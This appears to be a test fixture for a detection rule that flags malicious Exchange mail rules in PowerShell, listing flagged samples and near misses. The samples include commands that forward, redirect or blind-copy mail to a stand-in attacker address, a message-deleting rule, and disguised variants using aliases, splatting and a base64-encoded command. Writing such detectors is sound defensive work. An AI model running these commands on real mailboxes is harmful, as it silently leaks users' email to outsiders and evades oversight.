# file: bad1.ps1
# ruleid: PS071_InboxRule
New-InboxRule -Name x -ForwardTo mallory@example.org

# file: bad2.ps1
# ruleid: PS071_InboxRule
Set-Mailbox bob -ForwardingSmtpAddress smtp:mallory@example.org

# file: bad3.ps1
# ruleid: PS071_InboxRule
Set-InboxRule -Identity x -DeleteMessage $true

# file: bad4.ps1
# form: splatted
$rule = @{ Name = 'x'; RedirectTo = 'mallory@example.org' }
# ruleid: PS071_InboxRule
New-InboxRule @rule

# file: bad5.ps1
# form: variable
$to = 'mallory@example.org'
# ruleid: PS071_InboxRule
New-InboxRule -Name x -ForwardTo $to

# file: bad6.ps1
# ruleid: PS071_InboxRule
New-TransportRule -Name x -BlindCopyTo mallory@example.org

# file: bad7.ps1
# form: wrapped
# ruleid: PS071_InboxRule
powershell -NoProfile -EncodedCommand TgBlAHcALQBJAG4AYgBvAHgAUgB1AGwAZQAgAC0ATgBhAG0AZQAgAHgAIAAtAEYAbwByAHcAYQByAGQAVABvACAAbQBhAGwAbABvAHIAeQBAAGUAeABhAG0AcABsAGUALgBvAHIAZwA=

# file: bad8.ps1
# form: aliased
Set-Alias divert New-InboxRule
# ruleid: PS071_InboxRule
divert -Name x -ForwardTo mallory@example.org

# file: good1.ps1
# form: near miss
# ok: PS071_InboxRule
Get-InboxRule -Mailbox bob

# file: good2.ps1
# form: near miss
# ok: PS071_InboxRule
Set-Mailbox bob -ForwardingSmtpAddress $null

# file: good3.ps1
# form: near miss
# ok: PS071_InboxRule
New-InboxRule -Name x -From boss@example.org -Category Important
